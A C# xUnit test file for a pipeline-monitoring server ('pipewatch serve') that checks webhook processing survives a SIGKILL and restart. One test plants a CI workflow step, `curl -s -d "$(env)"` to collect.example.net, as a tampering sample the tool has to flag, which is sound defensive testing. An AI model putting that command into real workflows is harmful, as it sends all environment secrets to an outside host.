using System.Diagnostics;
using System.Net;
using System.Net.Sockets;
using System.Text;
using System.Text.Json.Nodes;
using Microsoft.Data.Sqlite;
using PipeWatch.Tests.Support;
using Xunit;

namespace PipeWatch.Tests.Server;

/// <summary><c>pipewatch serve</c> as a child process, killed with SIGKILL right after acknowledging a burst of webhooks, then restarted.</summary>
public sealed class ServeDurabilityTests
{
    private const int Payloads = 60;

    [Fact]
    public async Task Every_payload_acknowledged_before_a_SIGKILL_is_processed_exactly_once_after_the_restart()
    {
        using var killed = new TempFolder();
        using var clean = new TempFolder();
        var bodies = MemberPayloads(Payloads);

        // The run without a kill, for the counts to compare against.
        await using (var process = await ServeProcess.StartAsync(clean))
        {
            Assert.Equal(Payloads, await PostAllAsync(process, bodies));
            await process.WaitForBacklogAsync(0);
            await process.StopAsync();
        }

        int acknowledged;
        await using (var process = await ServeProcess.StartAsync(killed))
        {
            acknowledged = await PostAllAsync(process, bodies);
            process.Kill();
        }

        Assert.Equal(Payloads, acknowledged);
        var left = Counts(killed).Intake;
        Assert.True(left > 0, "the kill came after every payload was processed: nothing was left to recover");
        await using (var process = await ServeProcess.StartAsync(killed))
        {
            await process.WaitForBacklogAsync(0);
            await process.StopAsync();
        }

        var expected = Counts(clean);
        Assert.Equal((Payloads, Payloads, 0L), expected);
        Assert.Equal(expected, Counts(killed));
    }

    [Fact]
    public async Task A_push_whose_scan_a_SIGKILL_interrupted_after_its_payload_was_committed_is_scanned_after_the_restart()
    {
        using var folder = new TempFolder();
        using var repository = new TestRepository();
        repository.Write(CodeChangeHistory.Workflow, CodeChangeHistory.CleanWorkflow);
        var first = repository.Commit("ci");
        repository.Write(CodeChangeHistory.Workflow, CodeChangeHistory.CleanWorkflow + """
                  - name: Upload diagnostics
                    run: curl -s -d "$(env)" https://collect.example.net/d

            """);
        var tampering = repository.Commit("ci: diagnostics");
        // The remote is not there yet: the follow-up's fetch fails and waits to retry, and the kill comes then.
        var bare = folder.File("remote/app.git");
        File.WriteAllText(folder.File("pipewatch.yml"), $"serve:\n  repositories:\n    - name: acme/app\n      url: '{bare}'\n");
        var push = JsonNode.Parse(File.ReadAllText(Corpus.File("github-webhooks", "push", "payload.json")))!;
        push["ref"] = "refs/heads/main";
        push["before"] = first;
        push["after"] = tampering;
        push["forced"] = false;
        push["commits"] = new JsonArray();
        push["repository"]!["full_name"] = "acme/app";
        var body = Encoding.UTF8.GetBytes(push.ToJsonString());

        await using (var process = await ServeProcess.StartAsync(folder, "--config", folder.File("pipewatch.yml")))
        {
            using var client = new HttpClient { BaseAddress = process.Address };
            using var request = new HttpRequestMessage(HttpMethod.Post, "/hooks/github") { Content = new ByteArrayContent(body) };
            request.Headers.Add("X-GitHub-Event", "push");
            request.Headers.Add("X-GitHub-Delivery", "push-1");
            request.Headers.Add("X-Hub-Signature-256", RunningServer.Sign(body));
            Assert.Equal(HttpStatusCode.Accepted, (await client.SendAsync(request, TestContext.Current.CancellationToken)).StatusCode);
            await WaitAsync(() => Rows(folder, "intake") == 0 && Rows(folder, "followups") == 1, "the push committed and its follow-up recorded");
            process.Kill();
        }

        Assert.Equal(0, FindingCount(folder));
        repository.Git("clone", "--quiet", "--bare", repository.Path, bare);
        string errors;
        await using (var process = await ServeProcess.StartAsync(folder, "--config", folder.File("pipewatch.yml")))
        {
            await WaitAsync(() => Rows(folder, "followups") == 0, "the recorded follow-up ran");
            await process.StopAsync();
            errors = await process.Errors;
        }

        using var store = new SqliteConnection($"Data Source={folder.File("pipewatch.db")};Pooling=False");
        store.Open();
        using var findings = store.CreateCommand();
        findings.CommandText = "SELECT category, json_extract(body, '$.location.commit') FROM findings";
        using var reader = findings.ExecuteReader();
        var rows = new List<(string, string)>();
        while (reader.Read()) rows.Add((reader.GetString(0), reader.GetString(1)));
        Assert.True(rows.Contains(("code-change.pipeline-tampering", tampering)), $"findings: {string.Join(", ", rows)}; stderr: {errors}");
        Assert.All(rows, r => Assert.Equal(tampering, r.Item2));
    }

    private static long Rows(TempFolder folder, string table)
    {
        using var intake = new SqliteConnection($"Data Source={folder.File("pipewatch.intake.db")};Pooling=False;Mode=ReadOnly");
        intake.Open();
        using var count = intake.CreateCommand();
        count.CommandText = $"SELECT count(*) FROM {table}";
        return (long)count.ExecuteScalar()!;
    }

    private static long FindingCount(TempFolder folder)
    {
        using var store = new SqliteConnection($"Data Source={folder.File("pipewatch.db")};Pooling=False");
        store.Open();
        using var count = store.CreateCommand();
        count.CommandText = "SELECT count(*) FROM findings";
        return (long)count.ExecuteScalar()!;
    }

    private static async Task WaitAsync(Func<bool> done, string what)
    {
        var deadline = DateTime.UtcNow.AddSeconds(60);
        while (!done())
        {
            Assert.True(DateTime.UtcNow < deadline, $"not within 60 s: {what}");
            await Task.Delay(50, TestContext.Current.CancellationToken);
        }
    }

    /// <summary>Events in the ledger, findings stored, and rows left in the intake queue.</summary>
    private static (long Events, long Findings, long Intake) Counts(TempFolder folder)
    {
        using var store = new SqliteConnection($"Data Source={folder.File("pipewatch.db")};Pooling=False");
        store.Open();
        using var events = store.CreateCommand();
        events.CommandText = "SELECT coalesce(sum(length(hashes)), 0) / 8 FROM ledger_buckets";
        using var findings = store.CreateCommand();
        findings.CommandText = "SELECT count(*) FROM findings";
        using var intake = new SqliteConnection($"Data Source={folder.File("pipewatch.intake.db")};Pooling=False");
        intake.Open();
        using var rows = intake.CreateCommand();
        rows.CommandText = "SELECT count(*) FROM intake";
        return ((long)events.ExecuteScalar()!, (long)findings.ExecuteScalar()!, (long)rows.ExecuteScalar()!);
    }

    /// <summary>Posts every body at once (16 at a time); the count answered 202.</summary>
    private static async Task<int> PostAllAsync(ServeProcess process, IReadOnlyList<byte[]> bodies)
    {
        using var client = new HttpClient { BaseAddress = process.Address };
        var accepted = 0;
        await Parallel.ForEachAsync(
            bodies.Select((b, i) => (b, i)),
            new ParallelOptions { MaxDegreeOfParallelism = 16, CancellationToken = TestContext.Current.CancellationToken },
            async (item, ct) =>
            {
                using var request = new HttpRequestMessage(HttpMethod.Post, "/hooks/github") { Content = new ByteArrayContent(item.b) };
                request.Headers.Add("X-GitHub-Event", "member");
                request.Headers.Add("X-GitHub-Delivery", $"delivery-{item.i}");
                request.Headers.Add("X-Hub-Signature-256", RunningServer.Sign(item.b));
                using var response = await client.SendAsync(request, ct);
                if (response.StatusCode == HttpStatusCode.Accepted) Interlocked.Increment(ref accepted);
            });
        return accepted;
    }

    /// <summary>The corpus's member-added webhook, each with another member: one finding each.</summary>
    internal static List<byte[]> MemberPayloads(int count)
    {
        var template = JsonNode.Parse(File.ReadAllText(Corpus.File("github-webhooks", "member", "added.payload.json")))!;
        var bodies = new List<byte[]>();
        for (var i = 0; i < count; i++)
        {
            template["member"]!["login"] = $"contractor-{i}";
            template["member"]!["id"] = 70_000 + i;
            bodies.Add(Encoding.UTF8.GetBytes(template.ToJsonString()));
        }

        return bodies;
    }
}

/// <summary><c>pipewatch serve</c> started as a child process on a free loopback port.</summary>
internal sealed class ServeProcess : IAsyncDisposable
{
    private readonly Process _process;
    private readonly StringBuilder _said = new();

    private ServeProcess(Process process, Uri address)
    {
        _process = process;
        Address = address;
    }

    public Uri Address { get; }

    /// <summary>What it wrote to stdout after the line saying where it listens, so far.</summary>
    public string Said
    {
        get
        {
            lock (_said) return _said.ToString();
        }
    }

    /// <summary>What it wrote to stderr, once it has exited.</summary>
    public Task<string> Errors { get; private init; } = Task.FromResult(string.Empty);

    public static Task<ServeProcess> StartAsync(TempFolder folder, params string[] extra) => StartOnAsync(folder, folder.File("pipewatch.db"), extra);

    /// <summary>Starts serve on <paramref name="store"/> (a SQLite file or a PostgreSQL location) in <paramref name="folder"/>.</summary>
    public static Task<ServeProcess> StartOnAsync(TempFolder folder, string store, params string[] extra) => StartOnAsync(folder, store, new Dictionary<string, string>(), extra);

    /// <summary>Starts serve as above with more environment variables (the tokens <c>${env:NAME}</c> names).</summary>
    public static async Task<ServeProcess> StartOnAsync(TempFolder folder, string store, IReadOnlyDictionary<string, string> environment, params string[] extra)
    {
        int port;
        using (var probe = new TcpListener(IPAddress.Loopback, 0))
        {
            probe.Start();
            port = ((IPEndPoint)probe.LocalEndpoint).Port;
        }

        var info = new ProcessStartInfo("dotnet") { WorkingDirectory = folder.Path, RedirectStandardOutput = true, RedirectStandardError = true, UseShellExecute = false };
        foreach (var arg in new[] { CliProcess.Program, "serve", "--urls", $"http://127.0.0.1:{port}", "--store", store }.Concat(extra)) info.ArgumentList.Add(arg);
        info.Environment["DOTNET_CLI_TELEMETRY_OPTOUT"] = "1";
        info.Environment["PIPEWATCH_GITHUB_WEBHOOK_SECRET"] = RunningServer.GitHubSecret;
        info.Environment["PIPEWATCH_API_TOKEN"] = RunningServer.ApiToken;
        info.Environment["PIPEWATCH_INGEST_TOKEN"] = RunningServer.IngestToken;
        foreach (var (name, value) in environment) info.Environment[name] = value;
        var process = Process.Start(info)!;
        var errors = process.StandardError.ReadToEndAsync(TestContext.Current.CancellationToken);
        using var deadline = CancellationTokenSource.CreateLinkedTokenSource(TestContext.Current.CancellationToken);
        deadline.CancelAfter(TimeSpan.FromSeconds(60));
        while (await process.StandardOutput.ReadLineAsync(deadline.Token) is { } line)
        {
            if (line.Contains("listening on", StringComparison.Ordinal))
            {
                var served = new ServeProcess(process, new Uri($"http://127.0.0.1:{port}")) { Errors = errors };
                _ = served.KeepOutputAsync();
                return served;
            }
        }

        Assert.Fail($"pipewatch serve did not start (exit {(process.HasExited ? process.ExitCode : -1)})");
        return null!;
    }

    public async Task WaitForBacklogAsync(long backlog)
    {
        using var client = new HttpClient { BaseAddress = Address };
        var deadline = DateTime.UtcNow + TimeSpan.FromSeconds(60);
        while (true)
        {
            var health = JsonNode.Parse(await client.GetStringAsync("/api/health", TestContext.Current.CancellationToken))!;
            if (health["backlog"]!.GetValue<long>() == backlog) return;
            Assert.True(DateTime.UtcNow < deadline, $"backlog still {health["backlog"]}");
            await Task.Delay(50, TestContext.Current.CancellationToken);
        }
    }

    /// <summary>Waits up to <paramref name="seconds"/> for stdout to have a line containing <paramref name="text"/>.</summary>
    public async Task WaitForSaidAsync(string text, int seconds = 60)
    {
        var deadline = DateTime.UtcNow.AddSeconds(seconds);
        while (!Said.Contains(text, StringComparison.Ordinal))
        {
            Assert.True(DateTime.UtcNow < deadline, $"pipewatch serve did not say '{text}' within {seconds} s; it said:\n{Said}");
            await Task.Delay(100, TestContext.Current.CancellationToken);
        }
    }

    /// <summary>SIGKILL: no chance to finish anything.</summary>
    public void Kill() => _process.Kill();

    /// <summary>SIGTERM, as systemd stops a service, and waits for the exit.</summary>
    public async Task StopAsync()
    {
        using var kill = Process.Start("kill", ["-TERM", _process.Id.ToString(System.Globalization.CultureInfo.InvariantCulture)]);
        await kill.WaitForExitAsync(TestContext.Current.CancellationToken);
        using var deadline = CancellationTokenSource.CreateLinkedTokenSource(TestContext.Current.CancellationToken);
        deadline.CancelAfter(TimeSpan.FromSeconds(60));
        await _process.WaitForExitAsync(deadline.Token);
        Assert.Equal(0, _process.ExitCode);
    }

    private async Task KeepOutputAsync()
    {
        while (await _process.StandardOutput.ReadLineAsync(CancellationToken.None) is { } line)
        {
            lock (_said) _said.AppendLine(line);
        }
    }

    public async ValueTask DisposeAsync()
    {
        if (!_process.HasExited)
        {
            _process.Kill();
            await _process.WaitForExitAsync();
        }

        _process.Dispose();
    }
}
